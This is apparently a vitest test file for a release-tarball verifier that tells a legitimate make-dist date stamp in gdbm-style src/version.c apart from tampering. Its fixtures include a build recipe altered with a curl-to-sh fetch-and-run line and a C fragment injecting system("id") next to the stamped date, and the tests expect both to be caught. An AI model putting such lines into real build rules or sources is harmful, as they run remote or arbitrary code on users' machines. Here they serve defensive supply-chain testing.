/**
 * A tracked file whose dist copy a tracked make dist rule rewrites with `date` (gdbm 1.23's src/version.c: the
 * set-dist-date rule dist-hook depends on seds /*@DIST_DATE@*\/ into "04/02/2022"). End to end with real git and GNU
 * tar; the tampered twins stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dateFormat, holesMatch, readDistEdit } from '../../src/classify/dist-date.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

// gdbm's shape, written for this test
const RULE = String.raw`set-dist-date:
	rm -f $(distdir)/src/version.c; \
	d=` + '`' + String.raw`date '+%d/%m/%Y'` + '`' + String.raw`; \
	sed 's|/\*@DIST_DATE@\*/|"'"$$d"'"|' $(srcdir)/src/version.c > \
		$(distdir)/src/version.c
`;
const MAKEFILE_AM = `SUBDIRS = src\nEXTRA_DIST = NEWS\n\n${RULE}\ndist-hook: set-dist-date\n\t@if grep -q FIXME NEWS; then exit 1; fi\n`;
const VERSION_C = '#include "version.h"\nconst char *version = "x version " PACKAGE_VERSION ". "\n/*@DIST_DATE@*/\n;\nint x_version_number = 3;\n';
const stamped = (value: string) => VERSION_C.replace('/*@DIST_DATE@*/', value);

describe('a date a tracked make dist rule seds into the dist copy of a tracked file', () => {
  const root = tempDir();
  let n = 0;
  const run = async (makefileAm: string, shipped: string) => {
    const repo = makeRepo(join(root, `r${++n}`));
    const tracked = { 'Makefile.am': makefileAm, 'NEWS': 'news\n', 'src/Makefile.am': 'lib_LTLIBRARIES = libx.la\n', 'src/version.c': VERSION_C };
    repo.commit(tracked, 'release 1.23', '2022-02-04T14:07:44Z');
    repo.tag('v1.23');
    const dir = join(root, `t${n}`, 'x-1.23');
    writeFiles(dir, { ...tracked, 'src/version.c': shipped });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'x-1.23.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, f: r.findings.find((x) => x.path === 'src/version.c')! };
  };

  it('helpers: date formats, the recipe reader, the hole match', () => {
    expect(dateFormat('%d/%m/%Y')?.fields).toEqual(['d', 'm', 'Y']);
    expect(dateFormat('%s')).toBeUndefined();
    const when = Date.parse('2022-02-04T14:07:44Z');
    expect(holesMatch('a "\u0001" b\n', 'a "04/02/2022" b\n', '%d/%m/%Y', when)).toBe('04/02/2022');
    expect(holesMatch('a "\u0001" b\n', 'a "04/02/2031" b\n', '%d/%m/%Y', when)).toBeUndefined(); // far from the tag
    expect(holesMatch('a "\u0001" b\n', 'a "31/02/2022" b\n', '%d/%m/%Y', when)).toBeUndefined(); // no such day
    expect(holesMatch('\u0001 \u0001\n', '04/02/2022 05/02/2022\n', '%d/%m/%Y', when)).toBeUndefined(); // one run, one date
    const recipe = (s: string) => s.replace(/\$\(distdir\)/g, '\u0002DISTDIR').replace(/\$\(srcdir\)/g, '\u0002SRCDIR').replace(/\$\$/g, '$').replace(/\\\n/g, ' ');
    const body = RULE.split('\n').slice(1).join('\n').replace(/^\t/gm, '');
    expect(readDistEdit(recipe(body), 'src/version.c', 'set-dist-date')).toEqual({ script: 's|/\\*@DIST_DATE@\\*/|"\u0001"|', format: '%d/%m/%Y', target: 'set-dist-date' });
    expect(readDistEdit(recipe(body.replace('rm -f', 'curl -s https://example.invalid | sh; rm -f')), 'src/version.c', 'x')).toBeUndefined();
    expect(readDistEdit(recipe(body.replace('$(srcdir)/src/version.c', '$(srcdir)/src/other.c')), 'src/version.c', 'x')).toBeUndefined();
  });

  it("gdbm's shape: the release date in the dist copy, explained by the rule (exit 0)", async () => {
    const { r, f } = await run(MAKEFILE_AM, stamped('"04/02/2022"'));
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'VERSION_STAMP', severity: 'low', evidence: { lines: [3], rule: { file: 'Makefile.am', target: 'set-dist-date' }, date: '04/02/2022' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high: code beside the date, a date far away, another line changed, a rule make dist does not run', async () => {
    for (const [am, shipped] of [
      [MAKEFILE_AM, stamped('"04/02/2022" ; extern int system(const char *); int y = system("id")')],
      [MAKEFILE_AM, stamped('"04/02/2031"')],
      [MAKEFILE_AM, stamped('"04/02/2022"').replace('= 3;', '= 4;')],
      [MAKEFILE_AM.replace('dist-hook: set-dist-date', 'dist-hook:'), stamped('"04/02/2022"')],
    ] as const) {
      const { f } = await run(am, shipped);
      expect(f.code).not.toBe('VERSION_STAMP');
      expect(f.severity).toBe('high');
    }
  });
});
